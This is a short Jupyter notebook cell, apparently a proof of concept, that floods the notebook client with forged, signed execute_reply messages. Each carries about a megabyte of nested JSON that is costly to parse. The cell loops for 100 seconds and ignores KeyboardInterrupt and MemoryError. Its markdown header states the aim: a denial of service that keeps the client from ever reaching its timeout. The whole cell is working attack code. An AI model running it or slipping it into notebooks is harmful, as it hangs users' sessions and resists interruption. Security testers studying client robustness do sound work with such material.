# %% [markdown]
# # **denial: answers nobody, without end**
#
# On the shell's socket the client gets replies to a request that it never made, one after another,
# each of a megabyte that is dear to read, so that it never comes to look at its clock.

# %%
import time

kernel = get_ipython().kernel
session, socket = kernel.session, kernel.shell_stream.socket
content = b'{"x":[' + b"[]," * 300_000 + b"[]]}"
end = time.time() + 100
while time.time() < end:
    try:
        parts = [session.pack(session.msg_header("execute_reply")), b'{"msg_id":"nobody"}', b"{}"]
        signed = [session.sign([*parts, content]), *parts, content]
        socket.send_multipart([*kernel._parent_ident["shell"], b"<IDS|MSG>", *signed], copy=False)
    except (KeyboardInterrupt, MemoryError):
        pass
